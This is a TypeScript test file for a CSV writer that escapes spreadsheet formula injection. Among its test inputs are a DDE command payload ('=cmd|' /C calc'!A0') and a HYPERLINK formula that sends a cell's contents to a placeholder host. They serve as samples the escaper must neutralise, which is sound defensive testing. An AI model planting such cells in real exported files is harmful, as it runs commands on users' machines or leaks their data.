import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { csvCell, csvText, isFormulaLike } from "./csv-write.ts";
import { outTable, textColumns } from "./table.fixture.ts";
import type { Cell } from "./table-write.ts";

async function text(rows: ReadonlyArray<readonly Cell[]>, options = { raw: false, hasMark: false }): Promise<string> {
  let all = "";
  for await (const part of csvText(outTable(textColumns("id", "=n"), rows), options)) all += part;
  return all;
}

describe("a cell that a spreadsheet would run", () => {
  it.each([
    ["a formula", "=1+1", "'=1+1"],
    ["a formula behind a plus", "+1+1", "'+1+1"],
    ["a formula behind a minus", "-1+1", "'-1+1"],
    ["a function", "@SUM(A1)", "'@SUM(A1)"],
    ["a formula behind full-width signs", "＝1+1", "'＝1+1"],
    ["a command behind a full-width at sign", "＠SUM(1)", "'＠SUM(1)"],
    ["a full-width minus before full-width digits", "－１００", "'－１００"],
    ["a formula behind a tab", "\t=1+1", "'\t=1+1"],
    ["a formula behind a carriage return", "\r=1+1", '"\'\r=1+1"'],
    ["a command", "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ["a link that carries cells away", '=HYPERLINK("http://x?"&A1,"ok")', `"'=HYPERLINK(""http://x?""&A1,""ok"")"`],
    ["a telephone number", "+86 21 5555", "'+86 21 5555"],
    ["a minus alone", "-", "'-"],
    ["a name behind a minus", "-Ltd", "'-Ltd"],
    ["a number in words", "-1e", "'-1e"],
  ])("begins with an apostrophe: %s", (_, cell, expected) => {
    expect(csvCell(cell, false)).toBe(expected);
  });

  it.each(["-5", "+5", "-0.5", "-1e-7", "+1,234.56", "-12,345", "5", "", "a=b", "1+1", "' =1", " =1"])(
    "is not “%s”, which stays as it is",
    (cell) => {
      expect(csvCell(cell, false)).toBe(/,/u.test(cell) ? `"${cell}"` : cell);
    },
  );

  it("stays as it is when the person asks for raw cells", () => {
    expect(csvCell("=1+1", true)).toBe("=1+1");
  });

  it("may be a header as well", async () => {
    expect(await text([["C1", "=2"]])).toBe("id,'=n\nC1,'=2\n");
  });

  it("gets no second apostrophe when its file is written again", () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom("=", "+", "-", "@", "\t", "'", "1", "a", ".") }), (cell) => {
        const once = csvCell(cell, false);
        fc.pre(!once.startsWith('"'));
        expect(isFormulaLike(once)).toBe(false);
        expect(csvCell(once, false)).toBe(once);
      }),
    );
  });
});

describe("a CSV file", () => {
  it("has a header, commas and LF", async () => {
    expect(
      await text(
        [
          ["C1", "5"],
          ["C2", "x"],
          ["C3", null],
        ],
        { raw: true, hasMark: false },
      ),
    ).toBe("id,=n\nC1,5\nC2,x\nC3,\n");
  });

  it("begins with a mark where that is asked", async () => {
    expect(await text([], { raw: true, hasMark: true })).toBe("\uFEFFid,=n\n");
  });

  it.each([
    ["a comma", "a,b", '"a,b"'],
    ["a quote", 'say "hi"', '"say ""hi"""'],
    ["LF", "a\nb", '"a\nb"'],
    ["CR", "a\rb", '"a\rb"'],
    ["a space before", " a", " a"],
    ["a semicolon", "a;b", "a;b"],
  ])("quotes what has %s, if anything", (_, cell, expected) => {
    expect(csvCell(cell, false)).toBe(expected);
  });

  it("keeps a row that is one empty cell", async () => {
    let all = "";
    for await (const part of csvText(outTable(textColumns("n"), [["5"], [""], [null]]), { raw: false, hasMark: false })) all += part;
    expect(all).toBe('n\n5\n""\n""\n');
  });

  it("writes a number so that reading it gives the same number", () => {
    fc.assert(
      fc.property(fc.double({ noNaN: true, noDefaultInfinity: true }), (value) => {
        expect(Number(csvCell(value, false))).toBe(value === 0 ? 0 : value);
      }),
    );
  });
});
